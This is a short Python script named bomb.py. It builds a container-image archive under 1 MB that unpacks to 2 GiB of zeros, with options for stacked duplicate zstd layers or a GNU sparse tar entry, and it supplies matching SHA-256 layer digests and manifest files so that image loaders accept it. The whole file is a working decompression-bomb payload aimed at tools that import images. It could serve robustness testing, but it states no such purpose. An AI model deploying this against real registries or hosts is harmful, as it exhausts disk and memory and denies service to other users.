"""bomb.py FILE [KIND]: writes an archive of less than 1 MB with layers of zeros, 2 GiB in all.

KIND: "layers", 8 layers instead of one; "sparse", one file with holes, uncompressed.
"""
import hashlib
import io
import json
import subprocess
import sys
import tarfile


def packed(data):
    return subprocess.run(["zstd", "-q", "-c"], input=data, stdout=subprocess.PIPE, check=True).stdout


def sparse():
    """A file of 2 GiB in the PAX format 1.0 of GNU tar, with a hole up to its last block."""
    map_ = b"1\n2147483136\n512\n"
    info = tarfile.TarInfo("GNUSparseFile.0/zeros")
    info.size = 512 + 512
    info.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "zeros",
                        "GNU.sparse.realsize": str(2 << 30)}
    return info.tobuf(tarfile.PAX_FORMAT) + map_ + bytes(512 - len(map_)) + b"x" * 512 + bytes(1024)


kind = sys.argv[2] if len(sys.argv) > 2 else ""
count = 8 if kind == "layers" else 1
header = tarfile.TarInfo("zeros")
header.size = (2 << 30) // count
layer = packed(header.tobuf()) + packed(bytes(64 << 20)) * (32 // count)  # the frames are concatenated
digest = hashlib.sha256(header.tobuf())
for _ in range(32 // count):
    digest.update(bytes(64 << 20))
if kind == "sparse":
    layer = sparse()
    digest = hashlib.sha256(layer)
config = {"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": ["sha256:" + digest.hexdigest()] * count}}
manifest = [{"Config": "config.json", "RepoTags": ["a:b"], "Layers": ["layer.tar"] * count}]
with tarfile.open(sys.argv[1], "w") as archive:
    for name, data in (("layer.tar", layer), ("config.json", json.dumps(config).encode()),
                       ("manifest.json", json.dumps(manifest).encode())):
        member = tarfile.TarInfo(name)
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
